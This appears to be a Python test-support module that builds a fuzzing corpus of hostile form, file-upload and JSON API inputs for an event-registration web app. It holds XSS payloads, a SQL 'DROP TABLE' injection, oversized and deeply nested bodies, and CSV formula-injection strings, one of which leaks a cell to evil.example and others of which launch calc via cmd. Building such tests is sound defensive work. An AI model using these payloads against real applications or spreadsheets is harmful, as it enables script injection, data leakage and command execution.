"""The corpus: hostile values by class, the cases they make for a form, a file upload or a JSON body, and what
the corpus needs to know about the app's routes (valid bases to vary, routes left out and why).

Each class is a family of values sent where a field of that kind goes (text, number, date, choice), or to a
whole request (bodies, duplicated and missing fields). ``ACCEPTABLE`` says which classes a form may accept
as valid text (an emoji or right-to-left name is a name); every other class must be refused with a
translated 4xx or, when a field ignores it, leave nothing of it in the database.
"""

from __future__ import annotations

# --- values by class ---------------------------------------------------------------------------------------

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
JAVASCRIPT_URL = "javascript:alert(1)"

FORMULAS = {
    "formula_hyperlink": '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
    "formula_cmd": "+cmd|' /C calc'!A0",
    "formula_minus": "-2+3",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula_tab": "\t=1+2",
    "formula_cr": "\r=1+2",
}

TEXT = {
    "script": SCRIPT,
    "img_onerror": IMG,
    "javascript_url": JAVASCRIPT_URL,
    **FORMULAS,
    "emoji": "Søren 🎉👩🏽‍💻 Ærø",
    "rtl": "مرحبا بالعالم \u202eevil.exe\u202c שלום",
    "zero_width": "Zero\u200bwidth\u200c\u200dtext\ufeff",
    "sql_quote": "Robert'); DROP TABLE registration;--",
    "sql_like": "100% _of_ %_%\\",
    "nul": "before\x00after",
}

# Text a form may store: what is sent is what a person may legitimately write.
ACCEPTABLE = {"script", "img_onerror", "javascript_url", *FORMULAS, "emoji", "rtl", "zero_width", "sql_quote",
              "sql_like",
              # Decimal digits of other scripts are the number they write (as Python's int() reads them), and
              # Litestar reads a JSON string of digits where a number goes as that number.
              "arabic_digits", "int_numeric_string",
              # A JSON key given twice counts with its last value.
              "duplicated_key"}

NUMBER = {
    "huge": str(10**30),
    "int64_overflow": str(2**63),
    "int64_underflow": str(-(2**63) - 1),
    "negative": "-1",
    "float": "1.5",
    "exponent": "1e308",
    "nan": "NaN",
    "word": "twelve",
    "superscript": "²",
    "arabic_digits": "١٢",
}

DATE = {
    "year_1": "0001-01-01",
    "year_9999": "9999-12-31",
    "february_30": "2026-02-30",
    "garbage": "yesterday-ish",
}
DATETIME = {
    "year_1": "0001-01-01T00:00",
    "year_9999": "9999-12-31T23:59",
    "month_13": "2026-13-01T25:61",
    "garbage": "soon",
}
TIME = {"hour_25": "25:61", "garbage": "noonish"}
CHOICE = {"unknown": "no-such-choice", "script": SCRIPT, "huge_number": str(10**30)}

# Sent to every field of its kind (the rest of a kind's classes go to the first field of that kind only).
EVERY_FIELD = {"huge", "superscript", "word", "date_year_1", "datetime_year_1", "datetime_year_9999",
               "choice_unknown"}
# How many fields, each left out in turn (besides leaving out all of them).
MISSING_EACH = 4

TEN_MB = 10 * 1024 * 1024

# Percent-escapes of bytes that are no UTF-8 (a lone continuation byte, an overlong '/', a surrogate).
INVALID_UTF8_ESCAPES = "%C0%AF%80%ED%A0%80%FF"
INVALID_UTF8_BYTES = b"\xc0\xaf\x80\xed\xa0\x80\xff"


# --- routes ------------------------------------------------------------------------------------------------

# Write routes left out of the corpus because they read no input at all (their path parameters, if any, are
# still in test_hostile_paths.py).
NO_FIELDS: set[tuple[str, str]] = {
    ("POST", "/staff/logout"),  # no field, no parameter; it would end the corpus' own session (test_security.py)
}

# Fields whose value is used and never stored: an accepted request is not expected to hold them.
NOT_STORED = {
    "_csrf_token", "username", "password", "password_again", "current_password", "new_password", "next", "back",
    "website", "confirm", "view", "q",
}
# ... and on some routes only: answers to questions the chosen audience is not asked (a citizen names no
# organisation and no unit).
NOT_STORED_ON = {
    "/events/{slug:str}/register": {"organisation", "org_unit_id"},
    "/staff/events/{event_id:int}/registrations/new": {"organisation", "org_unit_id"},
    "/api/v1/events/{slug:str}/registrations": {"organisation", "org_unit_id"},
    "/api/v1/staff/events/{event_id:int}/registrations": {"organisation", "org_unit_id"},
}
# Routes whose refusals carry no message, on purpose: RFC 8058's one-click unsubscribe is posted by mail clients,
# which read the status only (the body says {"unsubscribed": false}).
BARE_REFUSALS = {("POST", "/api/v1/follow-up/unsubscribe/{token:str}")}

# Tables a refused request may still write: a failed login counts towards the account's lock-out.
REFUSAL_WRITES = {"/staff/login": {"staff_user"}}

# Write routes that take JSON from the pages' scripts (with the session and the CSRF header), not a form:
# they are in the API corpus (test_hostile_api.py).
SCRIPT_ROUTES = {("POST", "/staff/checkin/{event_id:int}/scans")}


# --- the cases of one form ---------------------------------------------------------------------------------

def _replaced(pairs: list[tuple[str, str]], name: str, value: str) -> list[tuple[str, str]]:
    """The pairs with ``name`` set to ``value`` once (in its place, or added at the end)."""
    out, done = [], False
    for key, old in pairs:
        if key == name:
            if not done:
                out.append((name, value))
                done = True
            continue
        out.append((key, old))
    return out if done else [*out, (name, value)]


def _is_number(field) -> bool:
    if field.kind == "number":
        return True
    options = [o for o in field.options if o]
    if field.kind in {"choice", "multi"} and options and all(o.lstrip("-").isdigit() for o in options):
        return True
    return field.kind == "hidden" and bool(field.values) and all(v.lstrip("-").isdigit() for v in field.values if v)


def form_cases(form) -> list:
    """Every class of the corpus against this form: markup in every text field; every text class in one
    text field; numbers, dates and choices in every field of their kind; bodies, duplicated and missing fields."""
    from hostile_support import Case

    base = form.browser_data()
    fields = [f for f in form.fields if f.name != "_csrf_token" and f.kind != "file"]
    texts = [f for f in fields if f.kind in {"text", "colour"}] or [f for f in fields if f.kind == "hidden"
                                                                   and not _is_number(f)]
    cases = [Case(f"{f.name}=script", "script", f.name, SCRIPT, _replaced(base, f.name, SCRIPT),
                  textual=f.kind != "hidden") for f in texts]
    if not fields:  # a button: what it may still meet is a body it does not expect
        return [Case("untouched", "missing", pairs=[]),
                Case("invalid utf-8 bytes", "invalid_utf8", body=b"x=" + INVALID_UTF8_BYTES),
                Case("10 MB", "huge_body", body=b"x=" + b"x" * TEN_MB)]
    # The representative text field: the first one the form stores, if any.
    stored = [f for f in texts if f.name not in NOT_STORED] or texts
    target = stored[0].name if stored else fields[0].name
    cases += [Case(f"{target}={cls}", cls, target, value, _replaced(base, target, value),
                   textual=stored[0].kind != "hidden" if stored else False)
              for cls, value in TEXT.items() if cls != "script" or not texts]
    cases.append(Case(f"{target}=invalid utf-8 escapes", "invalid_utf8", target, "\ufffd",
                      body=_encoded(_replaced(base, target, "@@")).replace(b"%40%40", INVALID_UTF8_ESCAPES.encode())))
    cases.append(Case(f"{target}=invalid utf-8 bytes", "invalid_utf8", target, None,
                      body=_encoded(_replaced(base, target, "@@")).replace(b"%40%40", INVALID_UTF8_BYTES)))
    cases.append(Case(f"{target}=10 MB", "huge_body", target, None,
                      body=_encoded(_replaced(base, target, "@@")).replace(b"%40%40", b"x" * TEN_MB)))
    # Every class in the first field of each kind; in the others, the values that have broken parsers.
    first: set[str] = set()
    for f in fields:
        if _is_number(f):
            kind, classes = "number", NUMBER
        elif f.kind in {"date", "datetime", "time"}:
            kind = f.kind
            classes = {f"{kind}_{cls}": value for cls, value in {"date": DATE, "datetime": DATETIME,
                                                                  "time": TIME}[kind].items()}
        elif f.kind in {"choice", "multi"}:
            kind, classes = "choice", {f"choice_{cls}": value for cls, value in CHOICE.items()}
        else:
            continue
        if kind in first:
            classes = {cls: value for cls, value in classes.items() if cls in EVERY_FIELD}
        first.add(kind)
        cases += [Case(f"{f.name}={cls}", cls, f.name, value, _replaced(base, f.name, value), textual=False)
                  for cls, value in classes.items()]
    duplicated = [pair for key, value in base for pair in ((key, value), (key, _other(form, key, value)))]
    cases.append(Case("every field twice", "duplicated", pairs=duplicated))
    cases.append(Case("no field at all", "missing", pairs=[]))
    cases += [Case(f"without {f.name}", "missing", f.name, pairs=[p for p in base if p[0] != f.name])
              for f in [f for f in fields if f.values and f.kind != "hidden"][:MISSING_EACH]]
    return cases


def _other(form, name: str, value: str) -> str:
    """A second value for a duplicated field: another option, or other text."""
    field = next(f for f in form.fields if f.name == name)
    options = [o for o in field.options if o != value]
    if options:
        return options[0]
    return str(int(value) + 1) if value.isdigit() else f"{value} (second)"


def _encoded(pairs: list[tuple[str, str]]) -> bytes:
    from urllib.parse import urlencode

    return urlencode(pairs).encode()

# Valid values for forms that start empty, so that a case is refused for its hostile field, not for another one
# left empty. ``${name}`` is a value of the world; ``{n}`` a number of the case's own (an address, a code or a
# title that must be new each time).
_PERSON = {"name": "Hostile Registrant", "email": "person{n}@example.org", "category": "citizen", "consent": "1"}
FORM_BASES: dict[str, dict[str, str | list[str]]] = {
    "/events/{slug:str}/register": _PERSON,
    "/staff/events/{event_id:int}/registrations/new": _PERSON,
    "/events/{slug:str}/follow-up/subscribe": {"email": "reader{n}@example.org"},
    "/evaluation/{token:str}": {"q1": "4", "q2": "More breaks, please"},
    "/j/{code:str}": {"text": "Benches by the river {n}"},
    "/staff/workshops/{workshop_id:int}/capture": {"text": "Said at the table {n}"},
    "/staff/login": {"email": "${admin_email}", "password": "not the password {n}"},
    "/staff/password/forgot": {"email": "nobody{n}@example.org"},
    "/staff/welcome/{token:str}": {"password": "a long passphrase {n}", "password_again": "a long passphrase {n}"},
    "/staff/password/reset/{token:str}": {"password": "a long passphrase {n}",
                                          "password_again": "a long passphrase {n}"},
    "/staff/account/password": {"current_password": "${admin_password}", "new_password": "a new passphrase {n}"},
    "/staff/account/tokens": {"token_name": "Report script {n}"},
    "/staff/people/invite": {"name": "Hostile Colleague", "email": "colleague{n}@staff.example.org"},
    "/staff/events/new": {"title_en": "Hostile event {n}", "starts_at": "${future_start}",
                          "ends_at": "${future_end}", "capacity": "40"},
    "/staff/events/{event_id:int}/workshops/new": {"title_en": "Hostile workshop {n}"},
    "/staff/events/{event_id:int}/messages": {"subject_en": "About the day", "body_en": "Bring a pen."},
    "/staff/events/{event_id:int}/team": {"email": "${colleague_email}"},
    "/staff/checkin/{event_id:int}": {"code": "${ticket_code}"},
    "/staff/checkin/dates/{occurrence_id:int}/set": {"count": "5"},
    "/staff/themes/policies": {"code": "policy-{n}", "name_en": "Hostile policy {n}"},
    "/staff/themes/policies/{policy_id:int}/themes": {"code": "X{n}", "name_en": "Hostile theme {n}"},
    "/staff/actions/new": {"title_en": "Hostile action {n}", "theme": "${theme_id}"},
    "/staff/input/merge": {"merge": ["${item_id}", "${other_item_id}"], "keep": "${item_id}"},
    "/staff/input/bulk": {"operation": "tag", "theme": "${theme_id}", "item": ["${item_id}"]},
}


# --- files ---------------------------------------------------------------------------------------------------

def _csv_file(rows: list[list[str]]) -> bytes:
    import csv
    import io

    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue().encode()


def _taxonomy(text: str) -> bytes:
    import json

    return json.dumps({"format": "samrad-taxonomy", "version": 1, "code": "imported-{n}", "kind": "municipal",
                       "name": {"en": text}, "themes": [{"code": "A", "name": {"en": text}}]}).encode()


# What each upload takes, with the text of the case in it: (file name, content type, the file for a text).
FILE_SAMPLES = {
    "/staff/themes/import": ("taxonomy.json", "application/json", _taxonomy),
    "/staff/themes/policies/{policy_id:int}/import-csv": (
        "themes.csv", "text/csv", lambda text: _csv_file([["code", "parent", "name_en"], ["A{n}", "", text]])),
    "/staff/workshops/{workshop_id:int}/notes": (
        "notes.csv", "text/csv", lambda text: _csv_file([["text", "kind"], [text, "idea"]])),
}

# Files no upload should take, whatever it expects.
BAD_FILES = {
    "empty": b"",
    "invalid_utf8": b"code,parent,name_en,text\n" + INVALID_UTF8_BYTES + b",,x,y\n",
    "nul_bytes": b"text,code,parent,name_en\nbefore\x00after,A,,x\n",
    "binary": bytes(range(256)) * 4,
    "broken_workbook": b"PK\x03\x04" + b"\x00" * 64,
    "deep_json": b"[" * 100_000 + b"]" * 100_000,
    "too_large": b"x" * 1_500_000,  # over an upload's own limit, under the request's
}


def file_cases(route: str, form) -> list:
    """The corpus as files: every text class inside a file the upload takes, and files no upload takes."""
    from hostile_support import Case

    if route not in FILE_SAMPLES:
        return []
    name, content_type, sample = FILE_SAMPLES[route]
    field = next(f.name for f in form.fields if f.kind == "file")
    pairs = form.browser_data()
    cases = [Case(f"file with {cls}", cls, field, value, pairs=pairs,
                  files={field: (name, sample(value), content_type)}) for cls, value in TEXT.items()]
    cases += [Case(f"file: {cls}", f"file_{cls}", field, None, pairs=pairs,
                   files={field: (name, content, content_type)}) for cls, content in BAD_FILES.items()]
    cases.append(Case("file: 10 MB", "huge_body", field, None, pairs=pairs,
                      files={field: (name, b"x" * TEN_MB, content_type)}))
    cases.append(Case("no file", "missing", field, None, pairs=pairs))
    return cases


# --- the JSON API ------------------------------------------------------------------------------------------------

# A valid body per write route of the API, and how it is sent: "bearer" (an organiser's token, as scripts do),
# "public" (nobody), "session" (the page's script: the staff session and the CSRF token in X-CSRFToken).
# None: the route takes no body. ``${name}`` is a value of the world (alone in a string: the value itself);
# ``{n}`` a number of the case's own; ``{uuid}`` a new UUID.
_API_PERSON = {"name": "API Registrant", "email": "api{n}@example.org", "category": "citizen", "consent": True}
API_BASES: dict[tuple[str, str], tuple[str, dict | None]] = {
    ("POST", "/api/v1/events"): ("bearer", {"kind": "conference", "title": {"en": "API event {n}"},
                                            "starts_at": "${future_start_iso}", "ends_at": "${future_end_iso}"}),
    ("PATCH", "/api/v1/events/{slug:str}"): ("bearer", {"title": {"en": "Renamed {n}"}}),
    ("POST", "/api/v1/events/{slug:str}/cancel"): ("bearer", None),
    ("POST", "/api/v1/events/{slug:str}/publish"): ("bearer", None),
    ("POST", "/api/v1/events/{slug:str}/registrations"): ("public", _API_PERSON),
    ("POST", "/api/v1/events/{slug:str}/workshops"): ("bearer", {"title": {"en": "API workshop {n}"},
                                                                 "starts_at": "${now_start_iso}",
                                                                 "ends_at": "${now_end_iso}"}),
    ("POST", "/api/v1/follow-up/unsubscribe/{token:str}"): ("public", None),
    ("POST", "/api/v1/join/{code:str}/input"): ("public", {"text": "Participant input {n}"}),
    ("POST", "/api/v1/policies/{code:str}/suggestions"): ("bearer", {"text": "Ramps at the library",
                                                                    "language": "en"}),
    ("POST", "/api/v1/registrations/{token:str}/cancel"): ("public", None),
    ("POST", "/api/v1/staff/events/{event_id:int}/checkins"): ("bearer", {"code": "${ticket_code}"}),
    ("POST", "/api/v1/staff/events/{event_id:int}/registrations"): ("bearer", _API_PERSON),
    ("PATCH", "/api/v1/workshops/{workshop_id:int}"): ("bearer", {"room": "Room {n}"}),
    ("DELETE", "/api/v1/workshops/{workshop_id:int}"): ("bearer", None),
    ("POST", "/api/v1/workshops/{workshop_id:int}/input"): ("bearer", {"client_id": "{uuid}", "text": "Said {n}"}),
    ("POST", "/staff/checkin/{event_id:int}/scans"): ("session", {"scan_id": "{uuid}", "code": "${ticket_code}"}),
}

NUMBER_JSON = {
    "huge": 10**30, "int64_overflow": 2**63, "int64_underflow": -(2**63) - 1, "negative": -1, "float": 1.5,
    "exponent": 1e308, "numeric_string": "12", "bool": True,
}
DATETIME_JSON = {"year_1": "0001-01-01T00:00:00", "year_9999": "9999-12-31T23:59:59",
                 "year_1_east": "0001-01-01T00:00:00+05:00", "year_9999_west": "9999-12-31T23:59:59-10:00",
                 "february_30": "2026-02-30T10:00:00", "garbage": "soonish", "number": 12}
BOOL_JSON = {"word": "yes", "number": 2}
IDS_JSON = {"huge": [10**30], "int64_overflow": [2**63], "negative": [-1], "words": ["x"], "string": "1,2",
            "nested": [[1]], "many": list(range(1, 5001))}
TEXTS_JSON = {"unknown_language": {"xx": "Hej"}, "number": {"en": 12}, "string": "Hello", "list": ["Hello"]}
OBJECTS_JSON = {"empty_object": [{}], "strings": ["x"], "object": {"a": 1}}


def _schema_kind(name: str, schema: dict) -> str:
    types = schema.get("type") or [t.get("type") for t in schema.get("oneOf", [])]
    types = {types} if isinstance(types, str) else set(types) - {None, "null"}
    if "object" in types:
        return "texts"
    if "array" in types:
        items = schema.get("items") or next((t.get("items") for t in schema.get("oneOf", []) if "items" in t), {})
        item_type = items.get("type") or ("object" if "$ref" in items else "")
        return {"integer": "ids", "string": "strings"}.get(item_type, "objects")
    if "integer" in types or "number" in types:
        return "int"
    if "boolean" in types:
        return "bool"
    if name.endswith("_at") or name == "until":
        return "datetime"
    return "text"


def api_cases(base: dict | None, properties: dict[str, dict], required: list[str]) -> list:
    """The corpus against one JSON body: text classes where text goes (markup in every text field), numbers,
    dates, booleans, lists and objects where they go, and bodies no JSON endpoint should take."""
    import json

    from hostile_support import Case

    def body(**changes) -> dict:
        return {**base, **changes}

    def raw(text: str) -> bytes:
        return text.encode()

    junk = [
        Case("not JSON", "invalid_json", body=b'{"text": ', content_type="application/json"),
        Case("invalid utf-8", "invalid_utf8", body=b'{"text": "' + INVALID_UTF8_BYTES + b'"}',
             content_type="application/json"),
        Case("10 MB", "huge_body", body=b'{"text": "' + b"x" * TEN_MB + b'"}', content_type="application/json"),
        Case("deep nesting", "deep_json", body=b'{"text": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
             content_type="application/json"),
        Case("a form, not JSON", "wrong_type", body=b"text=hello", content_type="application/x-www-form-urlencoded"),
    ]
    if base is None:
        return [Case("no body", "missing", body=b"", content_type="application/json"),
                Case("an unknown field", "unknown_field", json={"unexpected": SCRIPT}), *junk]
    kinds = {name: _schema_kind(name, schema) for name, schema in properties.items()}
    texts = [name for name in [*base, *kinds] if kinds.get(name) in {"text", "texts"}]
    texts = list(dict.fromkeys(texts))

    def text_value(name: str, value: str):
        return {"en": value} if kinds[name] == "texts" else value

    cases = [Case(f"{name}=script", "script", name, SCRIPT, json=body(**{name: text_value(name, SCRIPT)}))
             for name in texts]
    if texts:
        target = texts[0]
        cases += [Case(f"{target}={cls}", cls, target, value, json=body(**{target: text_value(target, value)}))
                  for cls, value in TEXT.items() if cls != "script"]
        duplicated = json.dumps(base)[:-1] + f', "{target}": ' + json.dumps(text_value(target, SCRIPT)) + "}"
        cases.append(Case("a key twice", "duplicated_key", target, SCRIPT, body=raw(duplicated),
                          content_type="application/json"))
    for name, kind in kinds.items():
        classes = {"int": NUMBER_JSON, "datetime": DATETIME_JSON, "bool": BOOL_JSON, "ids": IDS_JSON,
                   "strings": {"script": [SCRIPT], "unknown": ["no-such-choice"], "string": "x"},
                   "texts": TEXTS_JSON, "objects": OBJECTS_JSON}.get(kind, {})
        cases += [Case(f"{name}={cls}", f"{kind}_{cls}", name, value if kind in {"int", "datetime"} else None,
                       json=body(**{name: value}), textual=False) for cls, value in classes.items()]
    cases.append(Case("{}", "missing", json={}))
    cases += [Case(f"without {name}", "missing", name, json={k: v for k, v in base.items() if k != name})
              for name in required if name in base]
    cases += [Case(f"top level {label}", "wrong_type", json=value)
              for label, value in (("list", [base]), ("string", "x"), ("number", 12))]
    cases.append(Case("top level null", "wrong_type", body=b"null", content_type="application/json"))
    cases.append(Case("an unknown field", "unknown_field", json=body(unexpected=SCRIPT)))
    return [*cases, *junk]
